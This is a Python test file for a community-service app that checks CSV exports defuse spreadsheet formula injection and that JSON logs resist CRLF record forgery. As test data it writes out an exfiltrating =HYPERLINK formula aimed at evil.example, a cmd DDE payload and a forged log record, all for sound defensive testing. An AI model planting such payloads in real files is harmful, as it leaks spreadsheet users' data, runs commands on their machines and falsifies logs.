"""Stored text outside the browser: CSV exports that Excel would run as formulas, and log records a newline would
forge.

The HTML side (the console showing residents', staff's and team leads' text) is proven in a real browser by
tests/security/test_stored_content_browser.py.

CSV: residents' own words reach the reports' CSV (the unanswered questions), as do staff's ticket categories and
team leads' FAQ titles. A cell starting with `=`, `+`, `-`, `@`, a tab or a CR is a formula to Excel (OWASP's CSV
injection); `=HYPERLINK(...)` in a question would become a link that sends the next cells to the attacker, one
click away for the team lead who opened the file. app/services/reports/export.py prefixes such cells with an
apostrophe. tests/unit/test_reports_export.py::test_csv_defuses_cells_excel_would_run_as_formulas covers `=` and `-`
in the writer; here every start character, and the real path from a resident's message to the downloaded file.

Logs: one JSON object per line (app/core/request_log.py), so a value carrying CR/LF is escaped inside its record
and cannot start a second, forged one: not the request path, not a username or a message, not in the worker, whose
RQ library would add a plain-text handler of its own if the app had none.
"""
from __future__ import annotations

import csv
import io
import json
import logging
import os
import subprocess
import sys

import pytest
from sqlalchemy import select

from app.core import tasks
from app.core.extensions import db
from app.core.request_log import configure_logging
from app.models import Message, Ticket
from app.services.reports import intents
from app.services.reports.export import BOM, Section, to_csv
from app.services.tickets import lifecycle as tickets
from tests.conftest import TEST_SETTINGS
from tests.factories import ConversationFactory, FaqArticleFactory, ResidentFactory, StaffFactory
from tests.helpers.wechat import post_plain, text_xml
from tests.integration.test_console_auth import csrf_from, login

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

# --- CSV -----------------------------------------------------------------------------------------------------------

# What a resident might write, one per character Excel starts a formula with.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(A1:A9)",
    "\t": "\t=IMPORTXML(B2,\"//a\")",
    "\r": "\r=WEBSERVICE(C3)",
}


# The characters Excel (and LibreOffice) start a formula with, written out here rather than read from export.py,
# so a character dropped there fails this test.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(text: str) -> list[list[str]]:
    """The cells as Excel reads them: UTF-8 with a BOM, then CSV."""
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


@pytest.mark.parametrize("start", list(FORMULAS), ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_the_csv_writer_defuses_a_cell_starting_with_each_formula_character(start):
    text = to_csv(title="机器人", scope_line="", sections=[
        Section("未能回答的问题", ["问题", "次数", "相似问法"], [[FORMULAS[start], 1, FORMULAS[start] + " / 别的问法"]])])
    rows = rows_of(text)
    assert ["'" + FORMULAS[start], "1", "'" + FORMULAS[start] + " / 别的问法"] in rows
    assert formula_cells(rows) == []


def test_formulas_residents_staff_and_team_leads_store_reach_the_downloaded_csv_defused(app, web, rasa, street):
    """Residents write through the WeChat webhook; the bot did not understand them (its NLU says nlu_fallback), so
    their words are the bot report's unanswered questions. A member of staff sets a ticket's category, a team lead
    an FAQ title. Every report downloaded by the team lead: not one cell Excel would run."""
    rasa.intent = lambda text: "nlu_fallback"
    # The channels strip leading whitespace, so "\t=..." and "\r=..." arrive as "=..." (defused all the same).
    for n, text in enumerate(FORMULAS.values()):
        assert post_plain(web, text_xml(f"oFormulaResident{n:04d}", text, 7000 + n)).status_code == 200
    for queued in app.extensions["linli_redis"].redis.lrange(intents.PENDING_KEY, 0, -1):
        intents.record_intent(message_id=int(queued))
    stored = db.session.scalars(select(Message.text).where(Message.intent == "nlu_fallback")).all()
    assert sorted(stored) == sorted(text.strip() for text in FORMULAS.values())

    staff = StaffFactory(street=street)
    admin = StaffFactory(street=street, role="admin")
    conversation = ConversationFactory(resident=ResidentFactory(community__street=street))
    ticket = tickets.open_ticket(street_id=street.id, source="bot", subject="+噪音投诉", conversation_id=conversation.id)
    FaqArticleFactory(topic="csv_formula", title="原标题", answer="原答案", uses=99)
    db.session.commit()
    login(web, staff)
    token = csrf_from(web, "/console/queue")
    assert web.post(f"/console/tickets/{ticket.id}/category",
                    data={"category": "=1+1", "csrf_token": token}).status_code == 302
    web.post("/console/logout", data={"csrf_token": token})
    login(web, admin)
    assert web.post("/console/knowledge/csv_formula", data={
        "title": "@SUM(1+1)", "answer": "答案", "csrf_token": csrf_from(web, "/console/knowledge")}).status_code == 302
    db.session.expire_all()
    assert db.session.get(Ticket, ticket.id).category == "=1+1"

    bot = rows_of(web.get("/console/reports/bot.csv").get_data(as_text=True))
    questions = [row[0] for row in bot if row and row[0].startswith("'")]
    for text in FORMULAS.values():
        assert "'" + text.strip() in questions
    assert ["csv_formula", "'@SUM(1+1)", "99"] in bot
    volume = rows_of(web.get("/console/reports/volume.csv").get_data(as_text=True))
    assert any("'=1+1" in row for row in volume)
    for name in ("volume", "speed", "outcome", "bot", "help", "appointments"):
        response = web.get(f"/console/reports/{name}.csv")
        assert response.status_code == 200
        assert formula_cells(rows_of(response.get_data(as_text=True))) == [], name


# --- logs ----------------------------------------------------------------------------------------------------------

# A whole log record an attacker would like to add; it must only ever appear inside another record's field.
FORGED = ('{"asctime": "2024-01-01 00:00:00,000", "levelname": "CRITICAL", "name": "linli.access", '
          '"message": "forged", "request_id": "-"}')
CRLF_TEXT = "你好\r\n" + FORGED + "\n" + FORGED + "\r"


def records_of(output: str) -> list[dict]:
    """Every line a JSON record, or the test fails naming the line that is not."""
    records = []
    for line in output.splitlines():
        if line.strip():
            try:
                records.append(json.loads(line))
            except ValueError:
                pytest.fail(f"a log line that is not one JSON record: {line[:200]!r}")
    return records


@pytest.fixture
def log_output():
    """What the app's own log handler writes during the test: configure_logging() as create_app() runs it in every
    web and worker process (in this test process, the migrations' logging config may have replaced it)."""
    root = logging.getLogger()
    level, before = root.level, list(root.handlers)
    configure_logging()
    handler = next(h for h in root.handlers if getattr(h, "_linli", False))
    buffer = io.StringIO()
    previous = handler.setStream(buffer)
    yield buffer
    handler.setStream(previous)
    if handler not in before:
        root.removeHandler(handler)
    root.setLevel(level)


def test_crlf_in_a_path_a_username_or_a_message_stays_inside_one_json_record(app, web, street, log_output):
    # The request path (the access log records it), percent-encoded CR/LF decoded by the server.
    web.get("/console/login%0D%0A" + FORGED.replace(" ", "%20"))
    # A username at the console's sign-in.
    web.post("/console/login", data={"username": "admin\r\n" + FORGED, "password": "x",
                                     "csrf_token": csrf_from(web)})
    # A resident's message while the bot is down (RASA_URL is a closed port): the failure is logged.
    assert post_plain(web, text_xml("oCrlfResident0001", CRLF_TEXT, 8001)).status_code == 200
    # A log call of the app's kind with the resident's text as its argument (e.g. wechat_menu's "%r", the
    # bot failure's "%s").
    logging.getLogger("app.services.conversations.replies").warning("bot failed for message %s: %s", 1, CRLF_TEXT)

    records = records_of(log_output.getvalue())
    assert not [r for r in records if r.get("message") == "forged"]
    paths = [r["path"] for r in records if r.get("name") == "linli.access"]
    assert "/console/login\r\n" + FORGED in paths
    assert any(r.get("message") == f"bot failed for message 1: {CRLF_TEXT}" for r in records)


def test_the_worker_logs_a_job_carrying_a_residents_crlf_text_as_json_lines_only(app, committed, street):
    """The one job that carries text (a bot's late answer, queued while the database was down) in a real worker
    process: RQ logs the job with its arguments, the app logs the bot's failure; stdout and stderr are JSON lines."""
    conversation = ConversationFactory(resident=ResidentFactory(community__street=street))
    message = Message(conversation_id=conversation.id, channel="wechat", direction="in", author="resident",
                      text=CRLF_TEXT)
    db.session.add(message)
    db.session.commit()
    turn = {"channel": "wechat", "resident_id": conversation.resident_id, "conversation_id": conversation.id,
            "message_id": message.id, "bot_sender": conversation.bot_sender, "address": conversation.address,
            "text": CRLF_TEXT, "kind": "text"}
    assert tasks.later("conversations.queue_late_reply", turn=turn, messages=None, failure=CRLF_TEXT,
                       job_id="late-reply-crlf")

    env = {**os.environ, **{k: str(v) for k, v in TEST_SETTINGS.items()}, "DATABASE_URL": app.config["DATABASE_URL"],
           "REDIS_URL": app.config["REDIS_URL"], "FLASK_APP": "wsgi", "PYTHONWARNINGS": "ignore"}
    done = subprocess.run([sys.executable, "-m", "flask", "worker", "--burst", "--queues", "outbound"], cwd=ROOT,
                          env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]

    records = records_of(done.stdout) + records_of(done.stderr)
    assert not [r for r in records if r.get("message") == "forged"]
    # The job ran (its ticket is open) and both the app's and RQ's records carry the text, escaped inside them.
    assert db.session.scalar(select(Ticket.id).where(Ticket.conversation_id == conversation.id)) is not None
    assert any(r.get("message") == f"bot failed for message {message.id}: {CRLF_TEXT}" for r in records)
    assert any("late-reply-crlf" in r.get("message", "") and "queue_late_reply" in r["message"] for r in records)
